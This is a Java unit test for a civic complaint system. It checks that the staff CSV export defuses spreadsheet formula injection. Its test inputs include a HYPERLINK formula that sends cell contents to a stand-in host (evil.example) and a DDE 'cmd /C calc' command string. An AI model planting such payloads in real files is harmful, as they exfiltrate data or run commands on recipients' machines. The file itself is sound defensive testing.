package cn.banshi.staff;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cn.banshi.api.ApiTestSupport;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * CSV export (OWASP CSV injection): a cell that a spreadsheet would run as a formula — one that begins with
 * = + - @, a tab or a carriage return — is exported with a leading apostrophe, in every column a citizen can
 * fill (title, name, address) and for every role's export.
 */
class CsvFormulaInjectionTest extends ApiTestSupport {
    static final String[] TRIGGERS = {"=", "+", "-", "@", "\t", "\r"};

    @BeforeEach
    void setUp() {
        setUpApp("2021-06-01T09:00");
    }

    @Test
    void everyFormulaTriggerIsNeutralisedInEveryCitizenColumn() {
        List<String> payloads = new ArrayList<>();
        for (String t : TRIGGERS) {
            String payload = t + "HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
            payloads.add(payload);
            ObjectNode body = complaint().put("title", payload);
            ((ObjectNode) body.get("submitter")).put("name", t + "cmd|' /C calc'!A0");
            ((ObjectNode) body.get("location")).put("address", t + "1+1 梅家渎村");
            submitOnline("complaints", body);
        }
        for (String role : new String[] {ADMIN, AUDITOR}) {
            var export = staffGet("/api/v1/admin/cases/export", "/api/v1/admin/cases/export", role, null, null);
            assertEquals(200, export.getStatusCode(), export.getBody());
            List<List<String>> rows = parse(export.getBody().substring(1));
            assertEquals(TRIGGERS.length + 1, rows.size(), role);
            int dangerous = 0;
            for (List<String> row : rows) {
                for (String cell : row) {
                    assertFalse(
                            !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
                            role + " exported a live formula: " + cell);
                    if (cell.startsWith("'") && cell.length() > 1 && "=+-@".indexOf(cell.charAt(1)) >= 0) dangerous++;
                }
            }
            // = + - @ kept and prefixed: the title for both roles; name and address only where personal data is
            // exported (a leading tab or CR is trimmed away by validation before it is stored)
            assertEquals(role.equals(ADMIN) ? 3 * 4 : 4, dangerous, role);
        }
        for (String payload : payloads.subList(0, 4)) {
            // the value itself is kept, only prefixed
            assertTrue(staffGet("/api/v1/admin/cases/export", "/api/v1/admin/cases/export", ADMIN, null, null)
                    .getBody()
                    .contains(CsvExport.cell(payload)));
        }
    }

    /** RFC 4180 with every cell quoted, as CsvExport writes it. */
    static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        int i = 0;
        while (i < csv.length()) {
            char c = csv.charAt(i);
            if (c == '"') {
                i++;
                while (true) {
                    char d = csv.charAt(i);
                    if (d == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                        cell.append('"');
                        i += 2;
                    } else if (d == '"') {
                        i++;
                        break;
                    } else {
                        cell.append(d);
                        i++;
                    }
                }
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
                i++;
            } else if (c == '\r' && csv.startsWith("\r\n", i)) {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i += 2;
            } else {
                throw new AssertionError("unquoted content at " + i);
            }
        }
        return rows;
    }
}
